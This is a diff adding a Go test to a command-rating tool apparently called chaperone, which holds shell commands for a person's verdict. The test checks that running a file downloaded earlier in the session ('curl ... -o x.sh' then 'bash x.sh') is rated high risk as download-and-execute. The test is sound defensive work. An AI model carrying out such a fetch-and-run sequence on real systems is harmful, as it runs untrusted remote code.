@@ -21,7 +21,9 @@ import (
 	"time"
 
 	"github.com/chaperone-dev/chaperone/internal/itest"
+	"github.com/chaperone-dev/chaperone/memory"
 	"github.com/chaperone-dev/chaperone/models"
+	"github.com/chaperone-dev/chaperone/rater"
 	"github.com/chaperone-dev/chaperone/shape"
 )
 
@@ -328,4 +330,32 @@ func TestPanelUsesUserRules(t *testing.T) {
 	}
 	h.Answer(models.Verdict{By: models.ByPerson})
 	recv(t, got)
+}
+
+// TestPanelRatesWithSessionMemory: the panel rates a held command with
+// what the session's earlier commands did, read from the user's own state
+// folder (as the shim does): running a file the session downloaded is
+// download-and-execute, whatever the client says.
+func TestPanelRatesWithSessionMemory(t *testing.T) {
+	dir := hermetic(t)
+	req := forged()
+	req.Session, req.Command, req.Inner = "sess-1", "bash x.sh", ""
+	learnt := rater.Request{Command: "curl -s -o x.sh https://x.example/i.sh", Cwd: req.Cwd, Project: req.Project, Home: req.Home}
+	_, facts := rater.New().Rate(context.Background(), learnt)
+	notes := rater.Learn(learnt, facts)
+	if len(notes) == 0 {
+		t.Fatal("nothing learnt from a download")
+	}
+	if err := (memory.Store{Dir: filepath.Join(dir, "state", "chaperone", "sessions")}).Append(req.Session, notes...); err != nil {
+		t.Fatal(err)
+	}
+	path := sockPath(t)
+	p := startPanel(t, path)
+	c := &Client{Path: path, Timeout: 5 * time.Second}
+	got := ask(c, context.Background(), req)
+	h := recv(t, p.holds)
+	defer func() { h.Answer(models.Verdict{By: models.ByPerson}); recv(t, got) }()
+	if h.Req.Rating.Risk != models.High || !hasRule(h.Req.Rating, "exec.download") {
+		t.Errorf("rating %+v; want high with exec.download from the session's memory", h.Req.Rating)
+	}
 }
